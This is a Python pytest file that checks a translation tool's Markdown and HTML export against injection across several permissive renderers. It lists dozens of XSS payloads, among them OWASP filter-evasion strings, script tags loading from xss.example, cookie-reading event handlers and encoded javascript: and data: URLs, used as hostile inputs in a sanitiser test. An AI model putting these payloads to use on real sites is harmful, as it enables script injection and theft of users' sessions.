"""Renderer matrix: hostile text in a msgstr, in article text, in a glossary target and in
front matter, exported in every layout and format, then rendered by five Markdown renderers
as permissive as they come (raw HTML on, their own URL filters off): markdown-it-py,
cmark-gfm `--unsafe`, Python-Markdown (plain and as MkDocs runs it), Pandoc and mistune.
Nothing may appear that the source did not have: no element or attribute outside what
Markdown itself writes, no URL scheme outside the allowlist, and for a translation no
element beyond those of the same export with the source as its translation.

The renderers are installed by tests/setup.sh (cmark-gfm and pandoc from the system, the
others from the `test` extra); in CI (`CI` set) a missing one is a failure, not a skip.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
from collections import Counter
from functools import lru_cache
from html.parser import HTMLParser
from pathlib import Path

import polib
import pytest
from hypothesis import HealthCheck, Phase, assume, given, settings
from hypothesis import strategies as st

from translate.align import align_article
from translate.engine import Translation
from translate.export import export_project, render_html, render_markdown
from translate.project import load_project
from translate.read import Source, parse_source
from translate.segment import segment_document

LAYOUTS = ("side-by-side", "interleaved", "target")
ALLOWED_SCHEMES = {"http", "https", "mailto"}

# ------------------------------------------------------------------------------ payloads

# The issue's cases, then Markdown's own ways to a link or a tag.
ISSUE_CASES = [
    "Voir <javascript:alert(4)> ici.",
    "<JAVASCRIPT:alert(4)> et <data:text/html,x>.",
    "[x](javascript:alert(1)) et [y](JaVaScRiPt:alert(2)).",
    "[x](&#106;avascript:alert(3)) et [z](&#x6A;avascript&#x3A;alert(3)).",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:msgbox(1))",
    '[x](java%73cript:alert(1)) [y](<javascript:alert(6)>) [z]( javascript:alert(7) "t")',
    "![i](javascript:alert(5)) ![j](JAVASCRIPT:alert(5))",
    "Une fin `",  # a lone backtick: the next sentence must not pair with it
    "c` <script>alert(3)</script> `d",
    "`](javascript:` <script>alert(8)</script> `)`",
    "\\<script>alert(9)</script> et \\<img src=x onerror=alert(9)>",
    "Ligne\r# Titre injecté\r```\rbloc",
    "Ligne\u2028> citation\u2029- liste\r\n1. un",
    "{{ 7*7 }} {% include secret %}",
    '[x]{onclick="alert(1)"} et # t {onmouseover=alert(1)}',
    "$x$ @doe99 ^sup^ ~~del~~ H~2~O",
    "[r]: javascript:alert(1)",
    '[x](http://ok.example "t\\" onmouseover=\\"alert(1)")',
    '<div markdown="1">*x*</div>',
    "*[HTML]: abbreviation",
    "| a | b |",
    ":::: {.warning onclick=alert(1)}",
]

# The classic XSS filter-evasion payloads (OWASP cheat sheet), written down here.
XSS_CHEAT_SHEET = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    "<iframe src=https://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<details open ontoggle=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">[x](jav&#x09;ascript:alert(1))</a>',
]

PAYLOADS = ISSUE_CASES + XSS_CHEAT_SHEET

# A source with one sentence in each kind of block, and markup of its own.
SOURCE_MD = """---
title: Un titre
---

# Le titre de l'article

Voir [le site](https://example.org/a) et `code` ici. Deuxième phrase du paragraphe.
Troisième phrase ici.

- Un point de liste. Encore une phrase.

> Une citation. Une autre phrase.

| Poste | Montant |
|---|---|
| Écoles | Douze |

Une note[^1]. Fin de texte.

[^1]: Le texte de la note.
"""
SOURCE_TXT = "Le titre\n\nUne phrase. Une autre phrase. Une troisième.\n\n- Un point.\n"

# ------------------------------------------------------------------------------ renderers


def _need(tool: str) -> str | None:
    path = shutil.which(tool)
    if path is None and os.environ.get("CI"):
        pytest.fail(f"{tool} is not installed: run tests/setup.sh")
    return path


def markdown_it(text: str) -> str:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # its own URL filter off: the export must not need it
    return md.render(text)


def python_markdown(text: str) -> str:
    import markdown

    return markdown.markdown(text)


def python_markdown_mkdocs(text: str) -> str:
    import markdown

    return markdown.markdown(text, extensions=["toc", "tables", "fenced_code", "footnotes"])


def mistune_html(text: str) -> str:
    import mistune

    renderer = mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    md = mistune.create_markdown(renderer=renderer, plugins=["table", "strikethrough", "footnotes"])
    return md(text)


def _command(tool: str, arguments: list[str]):
    def render(text: str) -> str:
        path = _need(tool)
        if path is None:
            pytest.skip(f"{tool} is not installed (tests/setup.sh installs it)")
        done = subprocess.run(
            [path, *arguments], input=text, capture_output=True, text=True, check=True
        )
        return done.stdout

    render.__name__ = tool
    return render


cmark_gfm = _command("cmark-gfm", ["--unsafe", "-e", "table", "-e", "strikethrough"])
pandoc = _command("pandoc", ["-f", "markdown", "-t", "html"])

RENDERERS = {
    "markdown-it": markdown_it,
    "cmark-gfm": cmark_gfm,
    "python-markdown": python_markdown,
    "python-markdown-mkdocs": python_markdown_mkdocs,
    "pandoc": pandoc,
    "mistune": mistune_html,
}


@lru_cache(maxsize=512)
def render(renderer: str, text: str) -> str:
    """A renderer's HTML for `text` (the baselines recur: rendered once)."""
    return RENDERERS[renderer](text)


# ------------------------------------------------------------------------------ the oracle

# What the renderers write for Markdown itself: anything else came from raw HTML.
MARKDOWN_TAGS = {
    "p", "em", "strong", "code", "pre", "a", "img", "ul", "ol", "li", "blockquote", "hr",
    "br", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
    "sup", "sub", "del", "s", "section", "div", "span", "dl", "dt", "dd", "figure",
    "figcaption", "col", "colgroup", "caption", "abbr",
}  # fmt: skip
MARKDOWN_ATTRIBUTES = {
    "href", "src", "alt", "title", "id", "class", "role", "start", "type", "align", "style",
    "colspan", "rowspan", "width", "tabindex",
}  # fmt: skip
# What a translation's own inline Markdown may add to an HTML page (markdown-it, raw HTML
# off): inert elements, links only to allowed schemes (checked apart).
PAGE_INLINE = {"code", "em", "strong", "a", "sup", "br"}
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def elements(html: str) -> _Elements:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser


def scheme(url: str) -> str | None:
    """The scheme a browser reads in an attribute value (already entity-decoded): controls
    and spaces around and inside are dropped first, as browsers do; case is ignored."""
    match = _SCHEME.match(re.sub(r"[\x00-\x20\x7f]", "", url))
    return match.group(1).lower() if match else None


def live(html: str) -> list[str]:
    """What in a rendered page did not come from Markdown, or points to a refused scheme."""
    found = elements(html)
    problems = [f"<{tag}>" for tag in found.tags if tag not in MARKDOWN_TAGS]
    for tag, name, value in found.attributes:
        if name not in MARKDOWN_ATTRIBUTES and not re.fullmatch(r"(data|aria)-[a-z-]+", name):
            problems.append(f"<{tag} {name}>")
        if name == "style" and not re.fullmatch(r"(text-align|width): ?[\w.%]+;?", value):
            problems.append(f"<{tag} style={value!r}>")
        if name in ("href", "src") and scheme(value) not in (None, *ALLOWED_SCHEMES):
            problems.append(f"<{tag} {name}={value!r}>")
    return problems


# Article text: the author's raw HTML is kept when nothing in it can run (docs/markup.md), so
# an element or attribute of the source may appear; what may not is anything active. This
# oracle says what active is on its own, without the exporter's list.
INERT_TAGS = MARKDOWN_TAGS | {
    "b", "i", "u", "kbd", "mark", "small", "cite", "q", "var", "samp", "ins", "time", "data",
    "dfn", "bdi", "bdo", "wbr", "tfoot", "details", "summary", "picture", "center", "font",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "background", "poster", "data", "xlink:href",
    "srcset", "cite", "lowsrc", "dynsrc", "longdesc", "codebase", "ping",
}  # fmt: skip


def active(html: str) -> list[str]:
    """What in a rendered page could run, load or embed something: an element outside the
    inert ones, an event handler, a refused scheme in any URL attribute, active style."""
    found = elements(html)
    problems = [f"<{tag}>" for tag in found.tags if tag not in INERT_TAGS]
    for tag, name, value in found.attributes:
        if name.startswith("on") or name in ("srcdoc", "http-equiv", "is"):
            problems.append(f"<{tag} {name}>")
        if name == "style" and re.search(r"url|expression|script|import|behavior", value, re.I):
            problems.append(f"<{tag} style={value!r}>")
        if name in URL_ATTRIBUTES and any(
            scheme(url.strip()) not in (None, *ALLOWED_SCHEMES) for url in value.split(",")
        ):
            problems.append(f"<{tag} {name}={value!r}>")
    return problems


# The page's own elements around the article (templates/article.html.j2).
PAGE_TAGS = {
    "html", "head", "meta", "title", "style", "script", "body", "header", "main", "footer",
    "nav", "label", "input", "button", "article", "mark",
}  # fmt: skip


def page_problems(html: str) -> list[str]:
    """What in an exported HTML page is neither the page's nor Markdown's, or points to a
    refused scheme, or handles an event."""
    found = elements(html)
    problems = [f"<{tag}>" for tag in found.tags if tag not in MARKDOWN_TAGS | PAGE_TAGS]
    for tag, name, value in found.attributes:
        if name.startswith("on") or (
            name in ("href", "src") and scheme(value) not in (None, *ALLOWED_SCHEMES)
        ):
            problems.append(f"<{tag} {name}={value!r}>")
    return problems


_FOOTNOTE_AS_LINK = re.compile(r'<a href="(?![A-Za-z][A-Za-z0-9+.\-]*:)[^"]*"[^>]*>\^')


def extra_elements(html: str, baseline: str) -> Counter:
    """Elements of `html` beyond those of `baseline` (the same export, source as translation);
    Pandoc's column widths come with long cells, not with markup."""
    found = elements(html)
    extra = found.tags - elements(baseline).tags
    # a renderer without footnotes reads `[^1]: text` as a link definition and `[^1]` as a
    # link: to a relative path (a refused first word is made to point nowhere by
    # `sanitise.definition_text`, starting with U+200B); the scheme check still sees it
    extra["a"] -= len(_FOOTNOTE_AS_LINK.findall(html))
    return Counter({tag: n for tag, n in extra.items() if tag not in ("col", "colgroup") and n > 0})


# ------------------------------------------------------------------------------ exports


@lru_cache(maxsize=8)
def _document(source: str, suffix: str):
    document = parse_source(Source(Path(f"a{suffix}"), f"a{suffix}", source, "utf-8", ()))
    return document, tuple(segment_document(document))


def _msgids(source: str, suffix: str) -> list[str]:
    return list(dict.fromkeys(s.msgid for s in _document(source, suffix)[1]))


def exports(source: str, suffix: str, msgstrs: dict[str, str] | None) -> dict[str, str]:
    """Every layout in both formats; `msgstrs` None: each msgstr equals its msgid."""
    document, segments = _document(source, suffix)
    po = polib.POFile()
    for msgid in _msgids(source, suffix):
        text = msgid if msgstrs is None else msgstrs.get(msgid, msgid)
        po.append(polib.POEntry(msgid=msgid, msgstr=text))
    article = align_article(document, po, list(segments))
    out = {}
    for layout in LAYOUTS:
        out[f"md {layout}"] = render_markdown(article, layout)
        out[f"html {layout}"] = render_html(article, layout)
    return out


def _check_msgstrs(source: str, suffix: str, msgstrs: dict[str, str], renderers) -> None:
    hostile, baseline = exports(source, suffix, msgstrs), exports(source, suffix, None)
    for name, text in hostile.items():
        if name.startswith("html"):
            outputs = [("page", text, baseline[name])]
        else:
            outputs = [(r, render(r, text), render(r, baseline[name])) for r in renderers]
        for renderer, html, base in outputs:
            problems = live(html) if renderer != "page" else []
            page = elements(html)
            problems += [
                f"<{tag} {attr}={value!r}>"
                for tag, attr, value in page.attributes
                if attr in ("href", "src") and scheme(value) not in (None, *ALLOWED_SCHEMES)
            ]
            problems += [f"<{tag} {attr}>" for tag, attr, _ in page.attributes if attr[:2] == "on"]
            extra = extra_elements(html, base)
            if renderer == "page":  # inline Markdown rendered with raw HTML off
                extra = Counter({tag: n for tag, n in extra.items() if tag not in PAGE_INLINE})
            assert not problems and not extra, (name, renderer, problems, extra, text)


def _chunks(items: list[str], size: int) -> list[list[str]]:
    return [items[start : start + size] for start in range(0, len(items), size)]


# ------------------------------------------------------------------------------ the matrix


@pytest.mark.parametrize("renderer", list(RENDERERS))
@pytest.mark.parametrize(("suffix", "source"), [(".md", SOURCE_MD), (".txt", SOURCE_TXT)])
def test_hostile_msgstrs_are_text_in_every_renderer(renderer, suffix, source):
    """Each payload as a msgstr, in turn in every kind of block; consecutive payloads are
    consecutive sentences of one paragraph (the lone-backtick join case)."""
    msgids = _msgids(source, suffix)
    for shift in (0, len(msgids) // 2):
        for chunk in _chunks(PAYLOADS, len(msgids)):
            rotated = msgids[shift:] + msgids[:shift]
            _check_msgstrs(source, suffix, dict(zip(rotated, chunk, strict=False)), [renderer])


@pytest.mark.parametrize("renderer", list(RENDERERS))
def test_hostile_article_text_is_text_in_every_renderer(renderer):
    """The payloads as the article itself (paragraphs, heading, list items, quote, table),
    translated as themselves and untranslated: in raw HTML blocks and inline. Every renderer,
    plain Python-Markdown (no fenced code) included: raw HTML blocks are written as HTML in
    their safe form, never as code a renderer might read as Markdown."""
    body = "\n\n".join(PAYLOADS)
    blocks = [f"# {PAYLOADS[0]}", body, *(f"- {p}" for p in PAYLOADS[:12])]
    blocks += [f"> {p}" for p in PAYLOADS[12:20]]
    blocks += ["| a | b |\n|---|---|\n| " + " | ".join(p.replace("|", "") for p in PAYLOADS[:2])]
    source = "\n\n".join(blocks) + "\n"
    for msgstrs in (None, {}):
        for suffix in (".md", ".txt"):
            for name, text in exports(source, suffix, msgstrs).items():
                page = name.startswith("html")
                problems = page_problems(text) if page else active(render(renderer, text))
                assert not problems, (name, suffix, problems)


@pytest.mark.parametrize("renderer", list(RENDERERS))
def test_hostile_front_matter_values_are_text_in_every_renderer(renderer):
    """Front matter shown as text by a renderer that does not strip it carries no markup."""
    values = [json.dumps(p, ensure_ascii=False) for p in PAYLOADS]  # YAML strings
    lines = [f"k{index}: {value}" for index, value in enumerate(values)]
    lines += ["list:"] + [f"  - {value}" for value in values[:10]]
    source = "---\n" + "\n".join(lines) + "\n---\n\n# Titre\n\nUne phrase.\n"
    for name, text in exports(source, ".md", None).items():
        page = name.startswith("html")
        problems = page_problems(text) if page else live(render(renderer, text))
        assert not problems, (name, problems, text[:2000])


class _Echo:
    """An engine that gives back what it is sent: the placeholders come back as they went,
    so every glossary term is restored as its target."""

    name = "echo"
    description = "echo"
    translates = True

    def translate(self, sources):
        return [Translation(text) for text in sources]


def test_hostile_glossary_targets_are_text_in_every_renderer(tmp_path):
    """Glossary targets reach the msgstr through `translate`; exported, nothing is live."""
    from translate.pipeline import translate_project

    root = tmp_path / "p"
    (root / "seeds").mkdir(parents=True)
    words = ["budget", "mairie", "école", "tramway", "conseil", "quartier", "rue", "ville"]
    sentences = " ".join(f"Le {word} est là." for word in words)
    (root / "seeds" / "a.md").write_text(f"# Le budget\n\n{sentences}\n", encoding="utf-8")
    chosen = [p.replace("\r", " ").replace("\u2028", " ") for p in PAYLOADS[::5]][: len(words)]
    with (root / "glossary.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["source", "target"])
        writer.writerows(zip(words, chosen, strict=False))
    project = load_project(root)
    translate_project(project, engine_factory=lambda target: _Echo())
    po = polib.pofile(str(root / "locales" / "en" / "a.po"))
    assert any(chosen[1] in entry.msgstr for entry in po)  # the payloads did reach msgstr
    for layout in LAYOUTS:
        out = tmp_path / layout
        export_project(project, layout=layout, out_dir=out)
        for path in out.glob("a.*"):
            text = path.read_text(encoding="utf-8")
            if path.suffix == ".md":
                for renderer in RENDERERS.values():
                    assert not live(renderer(text)), (path.name, renderer.__name__)
            else:
                assert not page_problems(text), path.name


# ------------------------------------------------------------------------------ property

_PIECES = st.sampled_from(
    ["<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:", "JaVaScRiPt:",
     "&#106;", "](", "[", "]", "(", ")", "`", "``", "\\", "\r", "\n", "\u2028", "<", ">",
     "*", "_", "~~", "{", "}", "#", "- ", "1. ", "> ", "|", "!", "&", ";", "\"", "'", "x",
     " ", "alert(1)", "data:", "<javascript:alert(1)>", "[x](javascript:alert(1))"]
)  # fmt: skip
HOSTILE_TEXT = st.lists(_PIECES, min_size=1, max_size=12).map("".join)


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
    phases=[Phase.explicit, Phase.reuse, Phase.generate],  # each example runs 6 renderers
)
@given(first=HOSTILE_TEXT, second=HOSTILE_TEXT, at=st.integers(min_value=0, max_value=20))
def test_any_msgstr_is_text_in_every_renderer(first, second, at):
    """Generated hostile msgstrs in two consecutive sentences, every layout and renderer."""
    from translate.export.sanitise import one_line

    # an empty translation leaves an empty list item, which renderers nest differently
    assume(one_line(first).strip() and one_line(second).strip())
    msgids = _msgids(SOURCE_MD, ".md")
    at %= len(msgids) - 1
    msgstrs = {msgids[at]: first, msgids[at + 1]: second}
    _check_msgstrs(SOURCE_MD, ".md", msgstrs, list(RENDERERS))
